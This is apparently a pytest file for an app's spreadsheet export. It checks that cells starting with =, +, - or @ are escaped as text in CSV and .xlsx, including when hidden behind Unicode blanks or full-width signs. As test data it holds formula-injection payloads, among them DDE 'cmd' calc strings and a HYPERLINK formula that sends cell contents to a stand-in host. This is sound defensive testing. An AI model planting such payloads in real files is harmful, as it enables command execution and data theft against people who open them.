"""Cells a spreadsheet could run as a formula are written as text, in CSV and .xlsx alike: after any
Unicode blank, in full width too; real numbers stay numbers (issue 21, item 5)."""
import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from okrapp.core.files.workbook_stream import stream_xlsx
from okrapp.core.files.spreadsheets import csv_bytes, csv_lines, neutralised, starts_like_formula, xlsx_bytes

HOSTILE = {
    "equals": "=1+1",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(A1)",
    "tab first": "\t=1+1",
    "carriage return first": "\rx",
    "space then plus": " +cmd|' /C calc'!A0",
    "spaces then equals": "   =HYPERLINK(\"http://evil.example/?\"&A1)",
    "tab then space then equals": "\t =1",
    "line feed then equals": "\n=1+1",
    "crlf then at": "\r\n@SUM(A1)",
    "no-break space then equals": "\u00a0=1+1",
    "no-break spaces then minus": "\u00a0\u00a0-1+1",
    "ideographic space then plus": "\u3000+cmd|' /C calc'!A0",
    "em space then at": "\u2003@SUM(A1)",
    "en quad then equals": "\u2000=1+1",
    "hair space then minus": "\u200a-1",
    "zero-width space then equals": "\u200b=1+1",
    "byte-order mark then equals": "\ufeff=1+1",
    "narrow no-break space then plus": "\u202f+1",
    "line separator then equals": "\u2028=1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0bcmd|' /C calc'!A0",
    "full-width minus": "\uff0d2+3",
    "full-width at": "\uff20SUM(A1)",
    "space then full-width equals": " \uff1d1+1",
    "ideographic space then full-width plus": "\u3000\uff0b1",
    "no-break space then full-width at": "\u00a0\uff20SUM(A1)",
    "zero-width space then full-width minus": "\u200b\uff0d1",
    "small equals": "\ufe661+1",
}

HARMLESS = ["Plain", "a-b", "1+1", "e=mc2", " plain", "\u00a0plain", "\u3000text", "", "'=already text",
            "x@example.com", "\uff21bc"]  # the last: a full-width A


def _csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe_in_csv(text):
    assert starts_like_formula(text)
    assert neutralised(text) == "'" + text
    written = _csv_cells(csv_bytes([["head"], [text]]))
    assert _csv_cells(b"".join(csv_lines([["head"]], iter([[text]])))) == written  # streamed: the same
    [[head], [cell]] = written
    assert cell.startswith("'" + text[:1])
    if any(ch in text for ch in "\t\r\n"):  # a formula after a line break inside the cell gets one too
        assert cell.replace("'", "") == text.replace("'", "")
    else:
        assert cell == "'" + text


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_cell_that_could_start_a_formula_is_text_with_an_apostrophe_in_xlsx(text):
    data = xlsx_bytes([["head"], [text]])
    cell = load_workbook(io.BytesIO(data)).active["A2"]
    assert cell.data_type == "s" and isinstance(cell.value, str) and cell.value.startswith("'")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_written_as_it_is(text):
    assert not starts_like_formula(text) and neutralised(text) == text
    assert _csv_cells(csv_bytes([[text, "end"]])) == [[text, "end"]]


@pytest.mark.parametrize("prefix", ["Done;", "Done\t", "Done\n", "Done; \"", "Done;\u00a0", "Done;\u3000",
                                    "Done;\u200b"])
@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_formula_after_a_separator_and_blanks_is_neutralised_inside_a_csv_cell(prefix, sign):
    """Excel in a semicolon locale splits "Done;=cmd" into a cell of its own."""
    text = f"{prefix}{sign}cmd|' /C calc'!A0"
    assert _csv_cells(csv_bytes([[text]])) == [[f"{prefix}'{sign}cmd|' /C calc'!A0"]]


@pytest.mark.parametrize("value, written", [(-3.5, "-3.5"), (-3, "-3"), (Decimal("-2.50"), "-2.50"), (0, "0"),
                                            (+1.25, "1.25"), (-0.0001, "-0.0001"), (True, "yes")])
def test_numbers_stay_numbers(value, written):
    assert neutralised(value) == value
    assert _csv_cells(csv_bytes([[value]])) == [[written]]
    cell = load_workbook(io.BytesIO(xlsx_bytes([[value]]))).active["A1"]
    assert cell.value == value and cell.data_type in ("n", "b")


def test_an_xlsx_cell_typed_as_a_formula_comes_back_as_a_string_never_a_formula():
    data = b"".join(stream_xlsx([["=1+1", "#N/A", "=HYPERLINK(\"http://evil.example\")", -3.5]], "sheet"))
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml
    cells = list(load_workbook(io.BytesIO(data)).active.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), ("#N/A", "s"),
                                                       ("'=HYPERLINK(\"http://evil.example\")", "s"), (-3.5, "n")]
    # and as the reader of a formula would see it: no formula anywhere in the sheet
    assert all(not (isinstance(c.value, str) and c.value.startswith("=")) for c in cells)
